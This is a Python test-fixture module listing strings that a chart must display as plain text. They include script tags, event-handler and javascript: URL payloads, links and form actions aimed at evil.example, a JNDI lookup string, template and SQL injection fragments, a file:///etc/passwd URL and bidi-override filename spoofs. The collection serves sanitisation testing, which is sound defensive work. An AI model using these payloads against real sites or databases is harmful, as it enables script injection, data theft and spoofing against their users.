"""Texts that a chart may hold and that must stay texts: markup, links, scripts, invisible signs."""

from __future__ import annotations

EVIL = "https://evil.example"
_SCRIPTS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "vbscript:x",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd", "blob:https://evil.example/1", "//evil.example/x", EVIL,
]  # fmt: skip

_TAGS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<b>bold</b>",
    f'<img src="{EVIL}/x.png">', "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", f'<a href="{EVIL}">a</a>', "<iframe src=//x>",
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>", "<base>",
    "<meta http-equiv=refresh content=0>", "<form action=//evil.example><input></form>", "<br>",
    "<hr/>", "<!-- comment", "--> after a comment", "<!DOCTYPE html>", "<?php echo 1 ?>",
    "<![CDATA[x]]>", "</div></p></body>", "<textarea>", "<title>x", "<math><mtext>x</math>",
    "<details open ontoggle=alert(1)>", "<video src=x onerror=alert(1)>", "<scr<script>ipt>",
    "<\u0000script>", "<a/href=//x>", "< script >", "<x", "a < b > c", "<<b>>", "<p>\n\n<b>x</b>",
]  # fmt: skip
_MARKDOWN = [
    "**bold**", "__bold__", "*it*", "_it_", "***both***", "~~gone~~", "`code`", "``co`de``",
    "```\ncode\n```", "~~~\ncode\n~~~", "    indented code", "\tindented code", "# heading",
    "###### heading", "#", "heading\n===", "heading\n---", "---", "***", "___", "- item", "* item",
    "+ item", "1. item", "1) item", "> quote", ">>> quote", "- [ ] task", "- [x] task",
    "| a | b |\n|---|---|\n| c | d |", "a | b", "|---|", ":--|--:", "\\", "\\\\", "ends with \\",
    "line\\\nbreak", "two spaces  \nbreak", "[^1]", "[^1]: note", "term\n: definition",
    "$$x^2$$", "H~2~O", "==marked==", ":smile:", "@everyone", "#123", "{.class}", "{{x}}",
    "](", "[", "]", "![", "*", "_", "`", "**", "*a", "a*", "_a", "a_b_c", "<", ">", "&",
]  # fmt: skip
_LINKS = [
    f"[a]({EVIL})", f'[a]({EVIL} "title")', f"[a](<{EVIL}>)", f"![a]({EVIL}/x.png)",
    f"[![a]({EVIL}/x.png)]({EVIL})", f"[a]: {EVIL}\n\n[a]", f"[a][]\n\n[a]: {EVIL}", f"<{EVIL}>",
    "<mailto:a@evil.example>", "<a@evil.example>", EVIL, "http://evil.example/?q=1&r=2",
    "www.evil.example", "WWW.EVIL.EXAMPLE", "ftp://evil.example", "mailto:a@evil.example",
    "tel:112", f"({EVIL})", f"see {EVIL}.", f"*{EVIL}*", "xmpp:a@evil.example",
    *(f"[a]({url})" for url in _SCRIPTS), *(f"![a]({url})" for url in _SCRIPTS[:4]),
]  # fmt: skip
_ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;b&#62;", "&#x3c;b&#x3e;", "&#0000060b>",
    "&amp;lt;b&amp;gt;", "&nbsp;", "&NewLine;# heading", "&colon;", "[a](&#106;avascript:alert(1))",
    "%3Cscript%3E", "\\u003cscript\\u003e", "%s%n%d", "%(name)s", "{name}", "{0}", "${jndi:ldap://x}",
    "{{7*7}}", "{% raw %}", "{n, plural, other {x}}", "#{x}", "\x27 OR 1=1 --", '"; DROP TABLE x',
]  # fmt: skip
_INVISIBLE = [
    "\u202egnp.exe", "\u202dabc", "\u2066abc\u2069", "\u2067abc\u2069", "\u200eabc", "\u200fabc",
    "\u061cabc", "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb",
    "\u2028# h", "\u2029# h", "\x85# h", "a\x00b", "a\x07b", "a\x1b[31mred\x1b[0m", "a\x08b",
    "a\x7fb", "a\x9bb", "a\r\nb", "a\rb", "a\n\nb", "a\n\n# b", "a\n\n- b", "a\x0b\x0cb",
    "a\u3000b", "a\u2000b", "a\U000e0001\U000e0041b", "\ufff9a\ufffab\ufffb",
    "e\u0301" + "\u0301" * 50, "\ufdfd" * 20,
    "כאב גב", "ألم الظهر", "腰痛", "🦴" * 10, "x" * 5000, "word " * 1000, "*" * 1000, "[" * 500,
    "`" * 999, ">" * 300, "\n" * 300 + "a",
]  # fmt: skip

PAYLOADS = tuple(dict.fromkeys([*_TAGS, *_MARKDOWN, *_LINKS, *_ENCODED, *_INVISIBLE]))
